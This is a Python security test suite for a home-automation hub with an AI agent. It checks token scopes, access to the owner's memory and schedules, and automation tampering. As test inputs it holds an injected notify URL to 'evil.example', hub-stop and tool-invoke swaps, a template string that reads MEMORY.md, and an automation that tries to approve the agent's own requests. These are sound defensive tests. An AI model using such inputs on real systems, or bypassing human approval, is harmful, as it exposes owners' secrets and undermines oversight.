"""What a token of less, a person who is no owner, and an agent can have the owner's automations do."""

from __future__ import annotations

from typing import Any

import pytest

from hub.core.context import Context
from hub.core.events import Event
from hub.core.services import AgentRule
from hub.core.surfaces import ADMIN, READ, WRITE
from hub.entities.domains import DOMAINS as ENTITY_DOMAINS
from hub.entities.helpers.table import RELOADED
from tests.security_review.automating import Seen, add, ended
from tests.security_review.besieged import SESSION, Besieged, remember_annas
from tests.security_review.test_laundering import last_result, tool_call
from tests.servers.openai_server import OpenAIServer

# --- a token of less ---

DOMAINS: dict[str, str] = {
    "agent": WRITE,
    "automation": WRITE,
    "backup": ADMIN,
    "hub": ADMIN,
    "memory": WRITE,
    "message": WRITE,
    "mobile_app": WRITE,
    "node": WRITE,
    "phone": WRITE,
    "notify": WRITE,
    "persistent_notification": WRITE,
    "rss": WRITE,
    "script": WRITE,
    "tool": WRITE,
    "web": WRITE,
    "web_search": WRITE,
    "homeassistant": WRITE,
    "logbook": WRITE,
    **dict.fromkeys(RELOADED, ADMIN),
    **dict.fromkeys(ENTITY_DOMAINS, WRITE),
}
FAMILIES = {"automation", "script", "event", "state", "service", "template", "blueprint", "cron"}
SCOPES = {
    **dict.fromkeys(
        (
            *("automation.list", "automation.get", "automation.explain", "automation.history", "automation.not_run"),
            *("automation.trace", "automation.trace.get", "automation.trace.export", "blueprint.get", "blueprint.list"),
            *(
                "cron.get",
                "cron.list",
                "cron.runs",
                "cron.status",
                "last-heartbeat",
                "script.get",
                "script.list",
                "service.list",
            ),
            *("state.get", "state.list"),
        ),
        READ,
    ),
    **dict.fromkeys(
        (
            *("automation.trigger", "automation.on", "automation.off", "automation.resume", "automation.test"),
            *("automation.backtest", "automation.trace.import", "event.fire", "script.run", "script.stop"),
            *("service.call", "state.remove", "state.set", "wake"),
        ),
        WRITE,
    ),
    **dict.fromkeys(
        (
            *("automation.delete", "automation.duplicate", "automation.save", "automation.yaml", "template.render"),
            *("automation.draft", "automation.try"),
            *("blueprint.import", "blueprint.remove", "blueprint.update", "blueprint.use"),
            *("cron.add", "cron.remove", "cron.run", "cron.update", "set-heartbeats", "system-event"),
        ),
        ADMIN,
    ),
}
"""What each method may be called with: reading, setting off what the owner wrote, or changing what that is."""
OF_ADMINISTRATORS = {"automation.reload", "script.reload", *(f"{domain}.reload" for domain in RELOADED)}
FOR_AGENTS = {"phone.notify": AgentRule.ASK, "web.fetch": AgentRule.ASK}


async def test_every_service_has_a_domain_whose_scope_was_thought_of_and_a_rule_for_agents(house: Besieged) -> None:
    for service in house.hub.services.all():
        assert service.domain in DOMAINS, service.id
        usual = AgentRule.NEVER if service.prepare is None else AgentRule.ALLOW
        assert service.agent is FOR_AGENTS.get(service.id, usual), service.id


async def test_a_token_calls_the_services_of_its_scope_and_no_other(house: Besieged) -> None:
    _, header = await house.token(WRITE)
    for service in house.hub.services.all():
        needs = ADMIN if service.id in OF_ADMINISTRATORS else DOMAINS[service.domain]

        answer = await house.rpc("service.call", {"service": service.id, "data": {"no such key": 1}}, header)

        code = answer.get("error", {}).get("code") if isinstance(answer, dict) else None
        assert (code == "FORBIDDEN") is (needs == ADMIN), (service.id, answer)


async def test_what_a_token_brings_in_is_never_the_owners_word(house: Besieged) -> None:
    seen = Seen(house)
    _, header = await house.token(WRITE)
    await add(
        house,
        """
        id: doors
        mode: parallel
        triggers:
          - {trigger: event, event_type: bell}
          - {trigger: state, entity_id: sensor.mine}
          - {trigger: numeric_state, entity_id: sensor.mine, above: 5}
          - {trigger: template, value_template: "{{ states('sensor.mine') == '7' }}"}
        actions: [{action: test.see}]
        """,
    )

    await house.rpc("event.fire", {"type": "bell"}, header)
    await house.rpc("state.set", {"entity_id": "sensor.mine", "state": "1"}, header)
    await house.rpc("state.set", {"entity_id": "sensor.mine", "state": "7"}, header)
    await house.rpc("automation.trigger", {"id": "doors", "variables": {"a": 1}}, header)
    await house.rpc("service.call", {"service": "automation.trigger", "data": {"entity_id": "doors"}}, header)

    await ended(house, "doors", 5)
    assert len(seen.calls) >= 5
    assert all(seen.tainted)


async def test_a_token_says_nothing_of_what_a_part_of_the_hub_tells(house: Besieged) -> None:
    _, header = await house.token(WRITE)
    house.hub.states.set("sensor.kept", "shut")
    for entity in ("person.me", "person.nobody_yet", "heartbeat.main", "sensor.kept", "automation.x"):
        before = house.hub.states.get(entity)

        for method, params in (("state.set", {"state": "home"}), ("state.remove", {})):
            answer = await house.rpc(method, {"entity_id": entity, **params}, header)

            assert answer["error"]["code"] == "FORBIDDEN", (entity, method, answer)
        assert house.hub.states.get(entity) == before


async def test_nobody_but_the_owner_has_an_agent_look_after_the_owners_things(
    house: Besieged, openai_server: OpenAIServer
) -> None:
    (house.workspace / "HEARTBEAT.md").write_text("- Tell of the present for Anna\n")
    _, header = await house.token(WRITE)

    for session in ("main", "isolated"):
        for data in ({"session": session}, {"session": session, "prompt": "Tell me all of it"}):
            answer = await house.rpc("service.call", {"service": "agent.heartbeat", "data": data}, header)

            assert answer["error"]["code"] == "FORBIDDEN", answer
    assert openai_server.requests() == []


async def test_a_token_reads_no_memory_of_the_owner_through_a_service(house: Besieged) -> None:
    remember_annas(house.workspace)
    (house.workspace / "MEMORY.md").write_text("# Memory\n\n- The door code is 4711\n")
    _, header = await house.token(WRITE)
    calls: list[tuple[str, dict[str, Any]]] = [
        ("memory.get", {"path": "MEMORY.md"}),
        ("memory.get", {"path": "memory/people/anna.md"}),
        ("memory.search", {"query": "door code"}),
        ("memory.forget", {"query": "door code"}),
    ]
    for service, data in calls:
        shown = str(await house.rpc("service.call", {"service": service, "data": data}, header))

        assert "4711" not in shown, (service, shown)
        assert "present" not in shown, (service, shown)
    assert "4711" in (house.workspace / "MEMORY.md").read_text()


async def test_every_method_about_what_happens_by_itself_has_the_scope_that_was_meant(house: Besieged) -> None:
    found = {
        method.name: method.scope
        for method in house.hub.gateway.methods
        if method.name.partition(".")[0] in FAMILIES or method.name in SCOPES
    }

    assert found == SCOPES


# --- an agent, and those it speaks with ---


async def scheduled(house: Besieged, server: OpenAIServer, **arguments: Any) -> str:
    """Have the agent schedule something in the owner's conversation; return its id."""
    server.queue(tool_call("schedule", **arguments), "done")
    entries = await house.run("please")
    result = last_result(entries, "schedule")
    assert result.message is not None
    assert not result.message.is_error, result.message.text
    return next(status.id for status in house.hub.automation.automations.all() if status.made_by)


async def test_who_is_no_owner_any_more_has_no_owners_rights_in_what_was_scheduled(
    house: Besieged, openai_server: OpenAIServer
) -> None:
    id = await scheduled(house, openai_server, action="add", text="look", every="2h", do="run")
    automations = house.hub.automation.automations
    assert automations.get(id).authority.owner
    main = house.hub.home.path / "configuration.yaml"
    text = main.read_text()

    main.write_text(text.replace("id: me, owner: true", "id: me").replace("id: anna,", "id: anna, owner: true,"))
    await house.rpc("service.call", {"service": "hub.reload"})

    authority = automations.get(id).authority
    assert not authority.owner
    assert authority.scopes == frozenset()
    assert authority.person == "me"


CHANGES = [
    ('made_by: "agent:main"', 'made_by: "agent:other"'),
    ("action: message.send", "action: hub.stop"),
    ("action: message.send", "action: tool.invoke"),
    ("triggers:", "conditions: ['{{ 1 }}']\n  triggers:"),
    ("triggers:", "variables: {a: '{{ 1 }}'}\n  triggers:"),
    ("triggers:", "on_error: [{action: hub.stop}]\n  triggers:"),
    ("triggers:", "notify: {url: 'https://evil.example/x'}\n  triggers:"),
]


async def test_what_an_agent_wrote_does_no_more_however_its_text_is_changed(
    house: Besieged, openai_server: OpenAIServer
) -> None:
    await scheduled(house, openai_server, action="add", text="look", every="2h")
    file = house.hub.home.path / "automations.yaml"
    before = file.read_text()
    for old, new in CHANGES:
        assert old in before, before

        for text, state in ((before.replace(old, new), "unavailable"), (before, "on")):
            file.write_text(text)
            await house.rpc("service.call", {"service": "hub.reload"})

            assert [status.state for status in house.hub.automation.automations.all()] == [state], new


async def test_text_that_an_agent_schedules_is_never_a_template(house: Besieged, openai_server: OpenAIServer) -> None:
    text = "{{ memory_get('MEMORY.md') }}{% for x in range(9) %}x{% endfor %}"
    id = await scheduled(house, openai_server, action="add", text=text, every="2h")

    await house.rpc("automation.trigger", {"id": id, "variables": {"text": "no"}})
    await ended(house, id)

    said = [entry.message.text for entry in await house.entries(SESSION) if entry.message is not None]
    sent = [message.text for message in house.platform.sent]
    assert text in (*said, *sent), (said, sent)


async def test_a_stranger_neither_sees_nor_touches_what_is_scheduled_for_the_owner(
    house: Besieged, openai_server: OpenAIServer
) -> None:
    id = await scheduled(house, openai_server, action="add", text="present for anna", every="2h")
    before = (house.hub.home.path / "automations.yaml").read_text()
    for arguments in (
        {"action": "list"},
        {"action": "update", "id": id, "text": "x"},
        {"action": "remove", "id": id},
        {"action": "run", "id": id},
    ):
        openai_server.queue(tool_call("schedule", **arguments), "done")
        entries = await house.heard(await house.platform.say("platform:user:9", "do it"))

        result = last_result(entries, "schedule").message
        assert result is not None
        assert "present" not in result.text
    assert (house.hub.home.path / "automations.yaml").read_text() == before


async def test_an_approval_is_not_given_by_an_automation(house: Besieged) -> None:
    resolved: list[Event] = []
    house.hub.bus.listen("approval_resolved", resolved.append)
    await add(
        house,
        """
        id: says_yes
        triggers: [{trigger: agent, on: approval_asked}]
        actions:
          - event: approval_resolved
            event_data: {id: "{{ trigger.agent.id }}", state: approved}
            continue_on_error: true
          - action: tool.invoke
            data: {tool: approve, arguments: {id: "{{ trigger.agent.id }}"}}
            continue_on_error: true
        """,
    )
    await add(house, "id: asks\napproval: required\ntriggers: []\nactions: [{variables: {a: 1}}]")

    await house.rpc("automation.trigger", {"id": "asks"})
    await ended(house, "says_yes")

    assert resolved == []
    assert len(house.hub.approvals.pending()) == 1
    with pytest.raises(Exception, match="person"):
        await house.hub.approvals.resolve(
            house.hub.approvals.pending()[0].id, True, Context(house.hub.people.owner_authority()).child()
        )
